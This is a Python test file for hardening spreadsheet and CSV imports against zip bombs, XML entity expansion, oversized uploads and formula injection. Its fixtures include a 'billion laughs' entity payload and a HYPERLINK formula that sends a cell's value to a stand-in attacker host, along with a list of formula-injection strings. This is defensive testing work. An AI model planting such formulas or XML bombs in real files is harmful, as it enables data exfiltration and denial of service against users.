"""Excel import hardening: the container is judged before parsing; XML bombs, formulas and row limits."""

import csv
import io
import tracemalloc
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import InvalidInput, TooLarge
from core.exports import Column, neutralise_csv, write_xlsx
from core.tabular import MAX_ZIP_ENTRIES, read_table

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


class Upload(io.BytesIO):
    def __init__(self, data: bytes, name="import.xlsx"):
        super().__init__(data)
        self.name, self.size = name, len(data)


def workbook(rows, header=("name", "note")) -> bytes:
    buffer = io.BytesIO()
    columns = [Column(h, (lambda i: lambda r: r[i])(i)) for i, h in enumerate(header)]
    write_xlsx(buffer, columns, rows)
    return buffer.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_too_many_zip_entries_are_refused_before_parsing():
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        **{f"x/{i}.xml": b"<a/>" for i in range(MAX_ZIP_ENTRIES + 1)},
    }
    with pytest.raises(InvalidInput):
        read_table(Upload(zipped(parts)))


def test_a_zip_bomb_is_refused_by_its_ratio_before_parsing():
    parts = {"[Content_Types].xml": CONTENT_TYPES, "xl/worksheets/sheet1.xml": b"0" * (50 * 1024 * 1024)}
    tracemalloc.start()
    with pytest.raises(InvalidInput):
        read_table(Upload(zipped(parts)))
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 * 1024 * 1024  # the 50 MiB part was never inflated


def test_billion_laughs_in_the_worksheet_xml_is_refused():
    parts = _parts(workbook([("a", "b")]))
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    body = sheet[sheet.index("<worksheet") :]
    body = body.replace(">a<", ">&l9;<", 1)
    parts["xl/worksheets/sheet1.xml"] = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>{body}'.encode()
    )
    with pytest.raises(InvalidInput):
        _header, rows = read_table(Upload(zipped(parts)))
        list(rows)


def _parts(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def test_an_oversized_import_is_refused_with_413(settings):
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(TooLarge):
        read_table(Upload(workbook([("a", "b")] * 20)))


def test_formulas_are_read_as_their_text_never_evaluated():
    data = zipfile.ZipFile(io.BytesIO(workbook([("a", "b")])))
    parts = {name: data.read(name) for name in data.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    formula = '<c r="B2"><f>HYPERLINK("http://evil.example/?"&amp;A2,"click")</f></c>'
    parts["xl/worksheets/sheet1.xml"] = sheet.replace('<c r="B2"', formula + '<c r="X2"', 1).encode()
    _header, rows = read_table(Upload(zipped(parts)))
    values = [row.values for row in rows]
    assert values[0]["note"].startswith("=HYPERLINK(")


def test_the_enterprise_import_stops_at_the_row_limit(persona, settings):
    from registry.importer import run_import

    settings.IMPORT_MAX_ROWS = 3
    rows = [("x", "y")] * 5
    with pytest.raises(InvalidInput):
        run_import(actor=persona("admin"), uploaded=Upload(_enterprise_csv(rows), name="e.csv"))


def _enterprise_csv(rows) -> bytes:
    from registry.importer import template_columns

    headers = [str(c.header) for c in template_columns()]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for _ in rows:
        writer.writerow(["x"] * len(headers))
    return buffer.getvalue().encode()


# Control characters cannot be stored in a workbook (XML 1.0) and are dropped on export, by design.
PRINTABLE = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=30)
FORMULA_LIKE = PRINTABLE | st.sampled_from(
    ["=1+1", "+SUM(A1)", "-2", "@cmd", "'=x", "''=x", '=HYPERLINK("x")', "\t=1", "#N/A"]
)


@settings(max_examples=60, deadline=None)
@given(st.lists(FORMULA_LIKE, min_size=1, max_size=5))
def test_export_then_import_gives_back_the_original_text(values):
    values = [v for v in values if v.strip() and "\x00" not in v and v == v.strip()]
    if not values:
        return
    data = workbook([(v, "n") for v in values])
    _header, rows = read_table(Upload(data))
    assert [row.values["name"] for row in rows] == [
        v.replace("\r\n", "\n").replace("\r", "\n") for v in values
    ]


@given(st.text(max_size=40))
def test_csv_neutralising_never_leaves_a_trigger_first_and_round_trips(value):
    from core.exports import FORMULA_TRIGGERS, unneutralise_csv

    written = neutralise_csv(value)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert unneutralise_csv(written) == value or not value.lstrip("'").startswith(FORMULA_TRIGGERS)
